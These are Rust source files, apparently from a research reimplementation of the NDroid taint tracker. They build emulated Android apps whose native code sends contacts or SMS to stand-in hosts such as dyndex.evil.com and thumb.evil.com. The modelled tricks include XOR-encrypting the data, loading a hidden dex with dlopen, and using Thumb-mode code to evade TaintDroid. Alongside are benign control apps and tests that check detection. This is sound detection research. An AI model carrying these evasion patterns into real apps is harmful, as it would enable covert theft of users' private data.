    b.asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
    b.asm.b(top);
    b.asm.bind(done).unwrap();
    // fd = socket(); connect; send(fd, ciphertext, len, 0)
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R6, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R6);
    b.asm.mov(Reg::R1, Reg::R5);
    b.asm.mov(Reg::R2, Reg::R7);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "sendEncrypted", "VL", true, entry);

    let contact = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryEmail")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contact,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    let mut app = b.finish("Lcom/messenger/Crypto;", "main").unwrap();
    app.lib_name = "libmsgcrypt.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn ciphertext_is_still_tainted() {
        let sys = crypto_hider().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1, "encryption does not launder explicit flows");
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert_eq!(leaks[0].dest, "relay.messenger.example");
        // The wire data really is ciphertext, not the plaintext email.
        let wire = &sys.kernel.network_log[0].1;
        assert_ne!(wire.as_slice(), b"cx@gg.com");
        let decrypted: Vec<u8> = wire.iter().map(|b| b ^ 0x5A).collect();
        assert_eq!(decrypted, b"cx@gg.com");
    }

    #[test]
    fn taintdroid_sees_neither_plaintext_nor_label() {
        let sys = crypto_hider().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.kernel.network_log.len(), 1);
    }

    #[test]
    fn per_byte_xor_went_through_the_tracer() {
        let sys = crypto_hider().run(Mode::NDroid).unwrap();
        let stats = sys.ndroid_stats().unwrap();
        // 9 plaintext bytes x ~6 instructions per loop iteration.
        assert!(stats.insns_traced > 50, "{}", stats.insns_traced);
    }
}
