//! Type-II loading capability (§III-B): "these apps have additional
//! compressed dex files that can load native libraries. … many apps use
//! similar approaches to hide the core business logic."
//!
//! The app's visible dex contains no `System.loadLibrary` call; at
//! runtime it opens a hidden dex (`openDexFile`, the last entry of
//! Table VII) and `dlopen`s the payload library, whose code then pulls
//! contact data through JNI and ships it. NDroid observes the loading
//! chain (both calls are hooked) and still tracks the taint.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Builds the hidden-dex loader app.
pub fn dyndex_app() -> App {
    let mut b = AppBuilder::new(
        "hidden-dex-loader",
        "Type II: loads a hidden dex + payload library at runtime, then leaks contacts",
    );
    let c = b.class("Lapp/Loader;");
    let dex_bytes = b.data_cstr("PK\x03\x04classes.dex");
    let lib_name = b.data_cstr("libhidden.so");
    let cls = b.data_cstr("Landroid/provider/ContactsProvider;");
    let meth = b.data_cstr("queryEmail");
    let dest = b.data_cstr("dyndex.evil.com");

    // --- The payload routine (conceptually inside libhidden.so) ------
    let payload = b.asm.label();
    b.asm.bind(payload).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.ldr_const(Reg::R0, cls);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.ldr_const(Reg::R1, meth);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(dvm_addr("CallStaticObjectMethod"));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));

    // --- The bootstrap (in the visible stub library) ------------------
    let bootstrap = b.asm.label();
    b.asm.bind(bootstrap).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    // openDexFile(bytes) — the Table VII hook fires here.
    b.asm.ldr_const(Reg::R0, dex_bytes);
    b.asm.call_abs(libc_addr("openDexFile"));
    // dlopen("libhidden.so")
    b.asm.ldr_const(Reg::R0, lib_name);
    b.asm.call_abs(libc_addr("dlopen"));
    // Jump into the "hidden" payload.
    let payload_lbl = payload;
    b.asm.bl(payload_lbl);
    b.asm.pop(RegList::of(&[Reg::PC]));
    let boot_m = b.native_method(c, "bootstrap", "V", true, bootstrap);

    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: boot_m,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    let mut app = b.finish("Lapp/Loader;", "main").unwrap();
    app.lib_name = "libstub.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn loading_chain_is_observed() {
        let sys = dyndex_app().run(Mode::NDroid).unwrap();
        let log = sys.trace.render();
        assert!(
            log.contains("TrustCallHandler[openDexFile]"),
            "the hidden dex load is hooked (Table VII)"
        );
        assert!(log.contains("TrustCallHandler[dlopen] 'libhidden.so'"));
    }

    #[test]
    fn hidden_payload_leak_still_caught() {
        let sys = dyndex_app().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert_eq!(leaks[0].dest, "dyndex.evil.com");
        assert_eq!(leaks[0].data, "cx@gg.com");
    }

    #[test]
    fn taintdroid_sees_nothing() {
        let sys = dyndex_app().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
    }
}
