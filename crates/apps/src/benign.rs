//! Benign apps: heavy JNI users that leak nothing — false-positive
//! checks for the detection experiments.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::{BinOp, DexInsn};
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::{libc_addr, libm_addr};

/// A game-engine-style app: native physics over untainted data, sends
/// only a score. No sensitive source is ever touched.
pub fn physics_game() -> App {
    let mut b = AppBuilder::new(
        "physics-game",
        "benign: native arithmetic + network score upload (no sensitive source)",
    );
    let c = b.class("Lcom/game/Physics;");

    // int stepWorld(int seed): xorshift a few times in native code.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0);
    for _ in 0..4 {
        b.asm.lsl_imm(Reg::R1, Reg::R4, 13);
        b.asm.eor(Reg::R4, Reg::R4, Reg::R1);
        b.asm.lsr_imm(Reg::R1, Reg::R4, 17);
        b.asm.eor(Reg::R4, Reg::R4, Reg::R1);
    }
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let step = b.native_method(c, "stepWorld", "II", true, entry);

    let value_of = b
        .program
        .find_method_by_name("Ljava/lang/String;", "valueOf")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("scores.game.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Const { dst: 0, value: 42 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: step,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: value_of,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![1, 0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    b.finish("Lcom/game/Physics;", "main").unwrap()
}

/// An audio app: touches a sensitive source (the IMEI, for licensing),
/// crunches it natively, but only *logs* locally — never reaches a
/// sink that exfiltrates.
pub fn audio_license_check() -> App {
    let mut b = AppBuilder::new(
        "audio-license",
        "benign: tainted data enters native code but reaches no sink",
    );
    let c = b.class("Lcom/audio/License;");

    // int checksum(String imei): byte sum via strlen+loop (tainted in,
    // tainted out — but never sent anywhere).
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let checksum = b.native_method(c, "checksum", "IL", true, entry);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let value_of = b
        .program
        .find_method_by_name("Ljava/lang/String;", "valueOf")
        .unwrap();
    let log = b
        .program
        .find_method_by_name("Landroid/util/Log;", "d")
        .unwrap();
    let tag = b.string_const("License");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: checksum,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: value_of,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: tag },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: log,
                    args: vec![1, 0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    b.finish("Lcom/audio/License;", "main").unwrap()
}

/// A scientific app: heavy libm usage in native code with clean data,
/// writes results to its own file.
pub fn dsp_filter() -> App {
    let mut b = AppBuilder::new(
        "dsp-filter",
        "benign: native libm math + clean file write",
    );
    let c = b.class("Lcom/dsp/Filter;");
    let path = b.data_cstr("/data/dsp/output.txt");
    let mode = b.data_cstr("w");
    let fmt = b.data_cstr("result=%d");

    // void compute(): sinf/sqrtf over constants, fprintf the result.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.ldr_const(Reg::R0, 2.0f32.to_bits());
    b.asm.call_abs(libm_addr("sqrtf"));
    b.asm.call_abs(libm_addr("sinf"));
    b.asm.mov(Reg::R4, Reg::R0); // float bits as "result"
    b.asm.ldr_const(Reg::R0, path);
    b.asm.ldr_const(Reg::R1, mode);
    b.asm.call_abs(libc_addr("fopen"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, fmt);
    b.asm.mov(Reg::R2, Reg::R4);
    b.asm.call_abs(libc_addr("fprintf"));
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.call_abs(libc_addr("fclose"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let compute = b.native_method(c, "compute", "V", true, entry);

    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Const { dst: 0, value: 1 },
                DexInsn::BinOpLit {
                    op: BinOp::Add,
                    dst: 0,
                    a: 0,
                    lit: 1,
                },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: compute,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lcom/dsp/Filter;", "main").unwrap()
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;

    #[test]
    fn physics_game_never_flags() {
        for mode in [Mode::TaintDroid, Mode::NDroid] {
            let sys = physics_game().run(mode).unwrap();
            assert!(sys.leaks().is_empty(), "{mode}: no false positive");
            assert_eq!(sys.all_sink_events().len(), 1, "score was sent");
        }
    }

    #[test]
    fn tainted_but_sinkless_app_never_flags() {
        let sys = audio_license_check().run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty(), "no sink reached, no leak");
        assert!(sys.all_sink_events().is_empty(), "Log.d is not a sink");
        // The native side *did* see tainted data.
        let stats = sys.ndroid_stats().unwrap();
        assert!(stats.source_policies >= 1);
    }

    #[test]
    fn dsp_filter_clean_file_write_not_a_leak() {
        let sys = dsp_filter().run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.all_sink_events().len(), 1, "fprintf recorded");
        assert!(sys.kernel.fs.contains_key("/data/dsp/output.txt"));
    }
}
