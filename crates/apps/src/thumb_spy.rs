//! An app whose native library is **Thumb** code — exercising the
//! paper's claim that the instruction tracer handles Thumb instructions
//! through the same Table V rules (NDroid "handles 101 ARM and 55 Thumb
//! instructions that affect taint propagation", §V-C).
//!
//! The leak flow is Case 2 (Java source → native sink), compiled to T16
//! encodings: `GetStringUTFChars` → byte-copy loop → `send`.

use crate::builder::{App, AppBuilder};
use ndroid_arm::asm::ThumbAssembler;
use ndroid_arm::thumb::enc;
use ndroid_arm::{Cond, Reg};
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_emu::layout::NATIVE_CODE_BASE;
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Where the Thumb library text lives (inside the third-party region,
/// separate from the ARM assembler's range).
const THUMB_BASE: u32 = NATIVE_CODE_BASE + 0x0004_0000;

/// Builds the Thumb-native spy app.
pub fn thumb_spy() -> App {
    let mut b = AppBuilder::new(
        "thumb-spy",
        "Case 2 with a Thumb-mode native library (T16 machine code)",
    );
    let c = b.class("Lapp/ThumbSpy;");
    let dest = b.data_cstr("thumb.evil.com");
    let scratch = b.data_buffer(128);

    // void spy(String contact) — Thumb-16 throughout.
    let mut t = ThumbAssembler::new(THUMB_BASE);
    // push {r4, r5, r6, lr}
    t.raw(enc::push(0b0111_0000, true));
    // chars = GetStringUTFChars(contact, 0): r0 already = jstring.
    t.raw(enc::mov_imm(Reg::R1, 0));
    t.call_abs(dvm_addr("GetStringUTFChars"));
    t.raw(enc::mov_hi(Reg::R4, Reg::R0)); // r4 = chars
    // Byte-copy loop into scratch (pure Thumb data movement so the
    // Thumb tracer does the propagation, not the libc model).
    t.ldr_const(Reg::R5, scratch);
    t.raw(enc::mov_imm(Reg::R6, 0)); // index
    let top = t.label();
    t.bind(top).unwrap();
    t.raw(enc::ldr_reg(Reg::R0, Reg::R4, Reg::R6)); // word-wise copy
    t.raw(enc::str_reg(Reg::R0, Reg::R5, Reg::R6));
    t.raw(enc::add_imm8(Reg::R6, 4));
    t.raw(enc::cmp_imm(Reg::R6, 32));
    t.b_cond(Cond::Ne, top);
    // fd = socket()
    t.call_abs(libc_addr("socket"));
    t.raw(enc::mov_hi(Reg::R6, Reg::R0)); // r6 = fd
    // connect(fd, dest)
    t.ldr_const(Reg::R1, dest);
    t.call_abs(libc_addr("connect"));
    // len = strlen(scratch)
    t.raw(enc::mov_hi(Reg::R0, Reg::R5));
    t.call_abs(libc_addr("strlen"));
    t.raw(enc::mov_hi(Reg::R2, Reg::R0)); // len
    // send(fd, scratch, len, 0)
    t.raw(enc::mov_hi(Reg::R0, Reg::R6));
    t.raw(enc::mov_hi(Reg::R1, Reg::R5));
    t.raw(enc::mov_imm(Reg::R3, 0));
    t.call_abs(libc_addr("send"));
    // pop {r4, r5, r6, pc}
    t.raw(enc::pop(0b0111_0000, true));
    let thumb_code = t.assemble().expect("thumb assembly");

    // Register the Thumb method directly (entry | 1 selects Thumb).
    let spy = b.program.add_method(
        c,
        MethodDef::new(
            "spy",
            "VL",
            MethodKind::Native {
                entry: THUMB_BASE | 1,
            },
        ),
    );
    let contact = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contact,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: spy,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    let mut app = b.finish("Lapp/ThumbSpy;", "main").unwrap();
    app.data.push((THUMB_BASE, thumb_code.bytes));
    app.lib_name = "libthumbspy.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn thumb_library_leak_caught_by_ndroid() {
        let sys = thumb_spy().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert_eq!(leaks[0].dest, "thumb.evil.com");
        assert!(leaks[0].data.starts_with("Vincent"));
    }

    #[test]
    fn thumb_library_missed_by_taintdroid() {
        let sys = thumb_spy().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.kernel.network_log.len(), 1);
    }

    #[test]
    fn tracer_processed_thumb_instructions() {
        let sys = thumb_spy().run(Mode::NDroid).unwrap();
        let stats = sys.ndroid_stats().unwrap();
        assert!(
            stats.insns_traced > 20,
            "the copy loop ran under the tracer: {}",
            stats.insns_traced
        );
    }
}
