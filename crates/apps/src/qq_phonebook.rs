//! The QQPhoneBook 3.5 flow of Fig. 6 — a real-world Case 1′.
//!
//! Step 1: Java calls the native `makeLoginRequestPackageMd5` whose
//! fourth argument (`args[3]`, a `String`) carries contacts+SMS taint
//! `0x202`; the native code parks the data in its own memory.
//! Step 2: Java calls `getPostUrl`, whose **untainted** invocation
//! builds `http://sync.3g.qq.com/xpimlogin?sid=…` from the parked data
//! (step 2.1: `NewStringUTF` over tainted memory) and returns it.
//! Step 3: Java posts the URL — the leak TaintDroid alone cannot see.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Builds the QQPhoneBook replica.
pub fn qq_phonebook() -> App {
    let mut b = AppBuilder::new(
        "QQPhoneBook-3.5",
        "Fig. 6: login-package MD5 + getPostUrl URL exfiltration (Case 1')",
    );
    let c = b.class("Lcom/tencent/tccsync/LoginUtil;");
    let sid_buf = b.data_buffer(256);
    let url_buf = b.data_buffer(512);
    let url_fmt = b.data_cstr("http://sync.3g.qq.com/xpimlogin?sid=%s");

    // int makeLoginRequestPackageMd5(int, int, int, String data)
    // The tainted String is args[3], as in the paper's log.
    let make_login = b.asm.label();
    b.asm.bind(make_login).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.mov(Reg::R0, Reg::R3); // args[3]: the tainted jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, sid_buf);
    b.asm.call_abs(libc_addr("strcpy")); // park the secret in native memory
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let make_login_m = b.native_method(
        c,
        "makeLoginRequestPackageMd5",
        "IIIIL",
        true,
        make_login,
    );

    // String getPostUrl() — no tainted parameters!
    let get_post_url = b.asm.label();
    b.asm.bind(get_post_url).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.ldr_const(Reg::R0, url_buf);
    b.asm.ldr_const(Reg::R1, url_fmt);
    b.asm.ldr_const(Reg::R2, sid_buf);
    b.asm.call_abs(libc_addr("sprintf"));
    b.asm.ldr_const(Reg::R0, url_buf);
    b.asm.call_abs(dvm_addr("NewStringUTF")); // step 2.1
    b.asm.pop(RegList::of(&[Reg::PC]));
    let get_post_url_m = b.native_method(c, "getPostUrl", "L", true, get_post_url);

    let contacts = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    let concat = b
        .program
        .find_method_by_name("Ljava/lang/String;", "concat")
        .unwrap();
    let post = b
        .program
        .find_method_by_name("Lorg/apache/http/HttpClient;", "post")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "login",
            "V",
            MethodKind::Bytecode(vec![
                // data = contacts ++ sms  (taint 0x202 = CONTACTS|SMS)
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contacts,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: concat,
                    args: vec![0, 1],
                },
                DexInsn::MoveResult { dst: 0 },
                // Step 1: makeLoginRequestPackageMd5(1, 2, 3, data)
                DexInsn::Const { dst: 1, value: 1 },
                DexInsn::Const { dst: 2, value: 2 },
                DexInsn::Const { dst: 3, value: 3 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: make_login_m,
                    args: vec![1, 2, 3, 0],
                },
                // Step 2: url = getPostUrl()   (no tainted args)
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: get_post_url_m,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                // Step 3: post(url) → sink at sync.3g.qq.com
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: post,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(4),
    );
    let mut app = b.finish("Lcom/tencent/tccsync/LoginUtil;", "login").unwrap();
    app.lib_name = "libtccsync.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn taintdroid_misses_the_url_leak() {
        let sys = qq_phonebook().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        // But the URL with the secret did go out.
        let events = sys.all_sink_events();
        assert!(events
            .iter()
            .any(|e| e.data.contains("sync.3g.qq.com/xpimlogin?sid=")));
    }

    #[test]
    fn ndroid_catches_it_with_0x202() {
        let sys = qq_phonebook().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert_eq!(
            leaks[0].taint,
            Taint::CONTACTS | Taint::SMS,
            "the paper's 0x202 label"
        );
        assert_eq!(leaks[0].taint.0, 0x202);
        assert_eq!(leaks[0].dest, "sync.3g.qq.com");
        assert!(leaks[0].data.contains("xpimlogin?sid=Vincent"));
    }

    #[test]
    fn trace_matches_fig6_structure() {
        let sys = qq_phonebook().run(Mode::NDroid).unwrap();
        let log = sys.trace.render();
        assert!(log.contains("makeLoginRequestPackageMd5"));
        assert!(log.contains("getPostUrl"));
        assert!(log.contains("NewStringUTF Begin"));
        assert!(log.contains("dvmCreateStringFromCstr"));
        assert!(
            log.contains("add taint 514 to new string object@"),
            "0x202 = 514 decimal, as in Fig. 6"
        );
        assert!(log.contains("NewStringUTF End"));
    }
}
