//! A Monkeyrunner-style random input driver (§VI): "we first used one
//! simple tool (i.e., Monkeyrunner) to generate random input to drive
//! those 37,506 apps using JNI. Since this tool may miss many functions
//! involving JNI, we just found that QQPhoneBook3.5 … may leak
//! sensitive information" — and §VII: "simple tools like monkeyrunner
//! cannot enumerate all possible paths in an app and thus NDroid may
//! miss information leakage."
//!
//! The driver invokes an app's exported zero-argument "activity"
//! methods in a deterministic pseudo-random order, the way random UI
//! events trigger handlers. The [`gated_leak_app`] workload leaks only
//! when a specific two-step sequence occurs — so shallow random driving
//! misses it, deeper driving finds it, reproducing the paper's
//! coverage discussion.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_core::{NDroidSystem, RunReport};
use ndroid_dvm::bytecode::{CmpOp, DexInsn};
use ndroid_dvm::{ClassDef, FieldDef, InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// A deterministic xorshift PRNG (self-contained; the driver must not
/// depend on ambient randomness).
#[derive(Debug, Clone)]
pub struct MonkeyRng(u64);

impl MonkeyRng {
    /// Seeds the generator.
    pub fn new(seed: u64) -> MonkeyRng {
        MonkeyRng(seed.max(1))
    }

    /// Next pseudo-random value.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    /// Uniform index below `n`.
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }
}

/// The result of one random-driving session: what was invoked, plus
/// the finished system's [`RunReport`] (the one result type — callers
/// inspect it instead of poking at the system).
#[derive(Debug)]
pub struct DriveReport {
    /// Methods invoked, in order.
    pub invocations: Vec<String>,
    /// Entry-point invocations that failed (apps may throw).
    pub errors: usize,
    /// The system's run report after the final invocation.
    pub report: RunReport,
}

/// Randomly invokes `steps` of the app's exported entry points
/// (zero-argument methods of `class`) on a booted system.
pub fn drive(
    sys: &mut NDroidSystem,
    class: &str,
    entries: &[&str],
    steps: usize,
    seed: u64,
) -> DriveReport {
    let mut rng = MonkeyRng::new(seed);
    let mut invocations = Vec::with_capacity(steps);
    let mut errors = 0;
    for _ in 0..steps {
        let entry = entries[rng.below(entries.len())];
        invocations.push(entry.to_string());
        if sys.run_java(class, entry, &[]).is_err() {
            errors += 1;
        }
    }
    DriveReport {
        invocations,
        errors,
        report: sys.report(),
    }
}

/// An app with several harmless "activities" and one leak that fires
/// only when `enableSync` ran before `doSync` (a two-step path random
/// input rarely hits with few events).
pub fn gated_leak_app() -> App {
    let mut b = AppBuilder::new(
        "gated-sync",
        "leak requires the enableSync -> doSync sequence",
    );
    let c = b.program.add_class(ClassDef {
        name: "Lapp/Sync;".into(),
        static_fields: vec![FieldDef {
            name: "enabled".into(),
            is_reference: false,
        }],
        ..ClassDef::default()
    });

    // Native uploader.
    let upload = b.asm.label();
    b.asm.bind(upload).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    let dest = b.data_cstr("sync.evil.com");
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let upload_m = b.native_method(c, "upload", "VL", true, upload);

    let contacts = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    let log = b
        .program
        .find_method_by_name("Landroid/util/Log;", "d")
        .unwrap();
    let tag = b.string_const("Sync");
    let msg = b.string_const("idle");

    // Harmless activities.
    for name in ["showHome", "showSettings", "showAbout"] {
        b.method(
            c,
            MethodDef::new(
                name,
                "V",
                MethodKind::Bytecode(vec![
                    DexInsn::ConstString { dst: 0, index: tag },
                    DexInsn::ConstString { dst: 1, index: msg },
                    DexInsn::Invoke {
                        kind: InvokeKind::Static,
                        method: log,
                        args: vec![0, 1],
                    },
                    DexInsn::ReturnVoid,
                ]),
            )
            .with_registers(2),
        );
    }
    // enableSync: sets the static flag.
    b.method(
        c,
        MethodDef::new(
            "enableSync",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Const { dst: 0, value: 1 },
                DexInsn::SPut {
                    src: 0,
                    class: c,
                    field: 0,
                },
                DexInsn::ReturnVoid,
            ]),
        )
